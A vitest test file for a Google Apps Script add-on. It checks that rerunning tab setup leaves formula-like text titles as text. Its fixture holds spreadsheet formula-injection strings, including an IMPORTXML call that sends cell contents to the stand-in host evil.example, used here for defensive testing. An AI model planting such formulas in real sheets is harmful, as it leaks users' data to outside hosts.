// "Set up tabs" over a sheet with columns of its own: their key and title cells are read with
// getValues and written back with setValues, and a title kept as text behind a `'` comes back
// from getValues without it; it must stay text, not become a live formula.
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { saveSettings, setupTabs } from '../src/main'
import { appsScript, installGlobals, type AppsScript } from './apps-script-stubs'
import { BASE_URL, fakeWorker, TOKEN } from './fake-worker'

const STORE_TAB = '门店目标 Store targets'
let gas: AppsScript
let uninstall: () => void

beforeEach(() => {
  gas = appsScript({ fetch: fakeWorker().handler, files: { sidebar: '<p>sidebar</p>' } })
  uninstall = installGlobals(gas)
})
afterEach(() => uninstall())

describe('set up tabs run again over a sheet with its own columns', () => {
  it('leaves a text title that looks like a formula as text', () => {
    expect(saveSettings(BASE_URL, TOKEN).ok).toBe(true)
    expect(setupTabs().ok).toBe(true)
    const sheet = gas.spreadsheet.getSheetByName(STORE_TAB)!
    const own = sheet.getLastColumn() + 1
    // A collaborator's own column: key and title typed as text (the leading ' keeps them text).
    sheet.getRange(1, own, 2, 1).setValues([["'+IMPORTXML(\"http://evil.example/?\"&A3,\"//a\")"], ["'=HYPERLINK(\"http://evil.example\",\"备注\")"]])
    expect(sheet.getRange(1, own, 2, 1).getFormulas().flat()).toEqual(['', ''])
    expect(setupTabs().ok).toBe(true)
    const after = sheet.getRange(1, own, 2, 1).getFormulas().flat()
    expect(after).toEqual(['', ''])
  })
})
